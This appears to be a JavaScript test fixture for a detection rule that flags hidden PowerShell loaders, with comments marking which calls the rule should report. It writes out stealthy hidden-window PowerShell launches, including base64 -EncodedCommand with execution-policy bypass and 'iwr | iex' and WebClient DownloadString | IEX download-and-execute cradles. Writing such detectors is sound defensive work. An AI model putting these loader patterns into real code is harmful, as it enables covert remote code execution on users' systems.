// Fixture for generic-hidden-powershell-loader.
// RULEID: hidden -EncodedCommand of an interpolated script; python-style concatenation into -enc;
// a hidden window running IEX of a variable.
// OK: a visible -EncodedCommand of a variable; a hidden window running a fixed literal command;
// powershell Get-Clipboard; hidden launches that name a download cmdlet (iwr | iex, WebClient):
// generic-hidden-powershell-download reports those, once.
const { exec, spawn } = require("child_process");

function run(script, url, enc, stagePath) {
  const encoded = Buffer.from(script, "utf16le").toString("base64");
  // ruleid: generic-hidden-powershell-loader
  exec(`powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand ${encoded}`, { windowsHide: true });
  // ok: generic-hidden-powershell-loader
  exec(`powershell.exe -w hidden -c "iwr ${url} -UseBasicParsing | iex"`);
  // ruleid: generic-hidden-powershell-loader
  exec("powershell -nop -w hidden -enc " + enc);
  // ok: generic-hidden-powershell-loader
  spawn("cmd", ["/c", "powershell -WindowStyle Hidden -Command \"(New-Object Net.WebClient).DownloadString('" + url + "') | IEX\""]);
  // ruleid: generic-hidden-powershell-loader
  exec(`powershell -w hidden -c "Invoke-Expression (Get-Content ${stagePath} -Raw)"`);
}

function visible(encoded) {
  // ok: generic-hidden-powershell-loader
  exec(`powershell -NoProfile -NonInteractive -EncodedCommand ${encoded}`);
  // ok: generic-hidden-powershell-loader
  exec("powershell -NoProfile -WindowStyle Hidden -Command \"Get-Process | Select-Object -First 5\"");
  // ok: generic-hidden-powershell-loader
  exec("powershell -NoProfile -Command Get-Clipboard");
}

module.exports = { run, visible };
